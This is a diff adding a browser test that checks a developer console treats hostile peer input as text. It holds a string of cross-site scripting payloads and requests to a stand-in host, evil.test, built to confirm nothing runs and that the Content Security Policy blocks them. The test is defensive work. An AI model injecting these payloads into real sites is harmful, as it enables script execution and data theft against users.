@@ -1,0 +1,88 @@
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { CHROMIUM, Chromium } from '../../../../.ci/browser/chromium.fixture.ts';
+import { type OpenDesk, openDesk, textsOf, typeInto } from './open-console.fixture.ts';
+
+/** What a peer might send to have it run, shown, loaded or sent by the page. */
+const ATTACK =
+  '</script><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)><a href="javascript:alert(4)">x</a><link rel=stylesheet href=//evil.test/a.css><form action=//evil.test>{{token}}';
+
+/** Elements and attributes that the page itself never makes. */
+const FOREIGN = `[...document.querySelectorAll('body *')]
+  .filter((each) => each.matches('script, img, link, iframe, base, meta, style, form[action], a:not([href^="#"])') ||
+    [...each.attributes].some(({ name }) => name.startsWith('on')))
+  .map((each) => each.outerHTML)`;
+
+describe.skipIf(CHROMIUM === undefined)('the console with a hostile peer (skipped: needs Chromium)', () => {
+  let browser: Chromium;
+  let desk: OpenDesk;
+  beforeAll(async () => {
+    browser = Chromium.start(CHROMIUM ?? '');
+    desk = await openDesk({
+      sources: (endpoint) => [
+        {
+          writeKey: ATTACK,
+          name: ATTACK,
+          sharedSecret: ATTACK,
+          webhooks: [{ url: `${endpoint}/${encodeURI(ATTACK)}` }],
+        },
+        { writeKey: 'wk', webhooks: [] },
+      ],
+    });
+    await desk.ask('POST', 'send', {
+      call: {
+        type: 'track',
+        event: ATTACK,
+        userId: ATTACK,
+        properties: { [ATTACK]: ATTACK },
+        integrations: { [ATTACK]: true },
+      },
+    });
+    await fetch(`${desk.dev.url}/${encodeURI('<img src=x onerror=alert(5)>')}`, { method: 'POST', body: ATTACK });
+  });
+  afterAll(async () => {
+    await browser.close();
+    await desk.close();
+  });
+
+  it.each([
+    ['in a message', '/#m1'],
+    ['where clients connect', '/#connect'],
+    ['in the form', '/#send'],
+    ['beside the faults', '/#faults'],
+    ['in a filter', `/?filter=${encodeURIComponent(`is:"${ATTACK}"`)}`],
+  ])('shows its text as text %s', async (_, path) => {
+    const page = await desk.open(browser, path);
+    await expect.poll(async () => (await textsOf(page, '.pane > section, #filter-problem')).join('')).not.toBe('');
+    await typeInto(page, '#filter', '<script>');
+    await page.value('new Promise((done) => setTimeout(done, 0))');
+    expect(await page.value(FOREIGN)).toEqual([]);
+    const { dialogs, requests } = page.mischief;
+    expect({ dialogs, requests }).toEqual({ dialogs: [], requests: [] });
+  });
+
+  it('shows what came', async () => {
+    const page = await desk.open(browser, '/#m1');
+    await expect.poll(async () => (await textsOf(page, '.message')).join('')).toContain('<img src=x onerror=alert(2)>');
+    await expect
+      .poll(async () => (await textsOf(page, '.messages tr[data-id]')).join(''))
+      .toContain('<script>alert(1)</script>');
+  });
+
+  it('runs nothing, even if text became markup', async () => {
+    const page = await desk.open(browser, '/#m1');
+    await page.value(
+      `(document.querySelector('.pane').innerHTML = ${JSON.stringify('<img src="//evil.test/a" onerror="alert(1)"><iframe srcdoc="<script>alert(2)</script>"></iframe>')}, null)`,
+    );
+    await page.value(`fetch('//evil.test/b').then(() => 'sent', () => 'refused')`);
+    expect(page.mischief.dialogs).toEqual([]);
+    expect(page.mischief.problems.join('\n')).toContain('Content Security Policy');
+  });
+
+  it('refuses what a page without the token asks for', async () => {
+    const other = await desk.open(browser, '/icon-that-is-not-there');
+    const ask = (path: string) =>
+      `fetch(${JSON.stringify(path)}, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{"kind":"track"}' }).then(({ status }) => status, () => 'refused')`;
+    // This page has the right origin, and no token.
+    expect(await other.value(ask(`${desk.dev.url}/dev/trigger`))).toBe(403);
+  });
+});
